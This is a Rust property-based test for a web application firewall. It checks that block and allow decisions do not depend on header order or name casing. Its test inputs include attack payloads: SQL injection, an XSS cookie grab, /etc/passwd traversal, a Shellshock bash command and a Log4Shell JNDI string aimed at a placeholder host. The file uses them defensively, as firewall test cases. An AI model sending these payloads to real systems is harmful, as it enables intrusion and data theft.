//! Property: the WAF's decision about a request head does not depend on the order of its
//! headers, nor on how the client cased the header names. Envoy hands filters lowercase names
//! (HTTP/2 requires them, its HTTP/1 codec lowercases them), so "case" is checked on the way a
//! host delivers the client's spelling: lowercased, as `RequestHead` documents. Headers mix
//! benign values with attack payloads, so both allowed and blocked requests are compared.

use proptest::prelude::*;
use waf::config::Policy;
use waf::inspect::{HeadersOutcome, Verdict};
use waf::request::RequestHead;

const NAMES: &[&str] =
    &["User-Agent", "Accept", "Cookie", "Referer", "X-Custom", "X-Forwarded-For", "Accept-Language", "X-Api-Version"];

const VALUES: &[&str] = &[
    "Mozilla/5.0 (X11; Linux x86_64)",
    "text/html,application/xhtml+xml",
    "session=abc123; theme=dark",
    "' OR '1'='1' --",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "() { :; }; /bin/bash -c 'id'",
    "1 UNION SELECT password FROM users",
    "en-US,en;q=0.9",
    "203.0.113.9",
    "${jndi:ldap://x.example/a}",
];

const PATHS: &[&str] = &["/", "/api/items?id=7", "/search?q=1'%20OR%201=1--", "/static/app.js", "/a/../../etc/passwd"];

fn spelled(name: &str, flips: &[bool]) -> String {
    name.chars()
        .zip(flips.iter().cycle())
        .map(|(c, flip)| if *flip { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
        .collect()
}

/// What the decision is, independent of the order rules were reported in.
fn summary(verdict: &Verdict) -> (u8, u16, Vec<u32>) {
    let ids = |report: &waf::inspect::Report| {
        let mut ids: Vec<u32> = report.rule_ids().collect();
        ids.sort_unstable();
        ids.dedup();
        ids
    };
    match verdict {
        Verdict::Allow => (0, 0, Vec::new()),
        Verdict::Pass(report) => (1, 0, ids(report)),
        Verdict::Block { status, report } => (2, *status, ids(report)),
    }
}

fn decide(policy: &Policy, path: &str, headers: &[(String, String)]) -> (u8, u16, Vec<u32>) {
    let mut head_headers: Vec<(String, Vec<u8>)> = vec![
        (":method".into(), b"GET".to_vec()),
        (":path".into(), path.as_bytes().to_vec()),
        (":authority".into(), b"example.com".to_vec()),
    ];
    // As the host delivers the client's headers: names lowercased.
    head_headers.extend(headers.iter().map(|(n, v)| (n.to_ascii_lowercase(), v.as_bytes().to_vec())));
    let head = RequestHead { headers: &head_headers, protocol: b"HTTP/1.1", remote_addr: b"192.0.2.10:4711" };
    match policy.inspect_headers(&head, true) {
        HeadersOutcome::Done(verdict) => summary(&verdict),
        HeadersOutcome::ReadBody(_) => panic!("end_of_stream: the body is not needed"),
    }
}

thread_local! {
    /// Compiled once: block mode at paranoia 1 and 2, and detect mode.
    static POLICIES: Vec<Policy> =
        [r#"{"mode": "block"}"#, r#"{"mode": "block", "paranoia_level": 2}"#, r#"{"mode": "detect"}"#]
            .iter()
            .map(|json| Policy::from_json(json.as_bytes()).expect("a valid configuration"))
            .collect();
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn the_decision_does_not_depend_on_header_order_or_case(
        path in proptest::sample::select(PATHS),
        headers in proptest::collection::vec(
            (proptest::sample::select(NAMES), proptest::sample::select(VALUES), proptest::collection::vec(any::<bool>(), 1..8)),
            0..8,
        ),
        shuffle in any::<proptest::sample::Index>(),
        rotate in any::<usize>(),
    ) {
        // Distinct names: the order of two values of one repeated name is the client's data.
        let mut seen = std::collections::HashSet::new();
        let headers: Vec<(&str, &str, Vec<bool>)> =
            headers.into_iter().filter(|(name, _, _)| seen.insert(*name)).collect();
        let canonical: Vec<(String, String)> =
            headers.iter().map(|(n, v, _)| (n.to_ascii_lowercase(), (*v).to_owned())).collect();
        let mut reordered: Vec<(String, String)> =
            headers.iter().map(|(n, v, flips)| (spelled(n, flips), (*v).to_owned())).collect();
        if !reordered.is_empty() {
            let len = reordered.len();
            reordered.rotate_left(rotate % len);
            reordered.swap(0, shuffle.index(len));
        }
        let decisions: Vec<_> = POLICIES.with(|policies| {
            policies.iter().map(|p| (decide(p, path, &canonical), decide(p, path, &reordered))).collect()
        });
        for (in_order, reordered) in decisions {
            prop_assert_eq!(in_order, reordered);
        }
    }
}
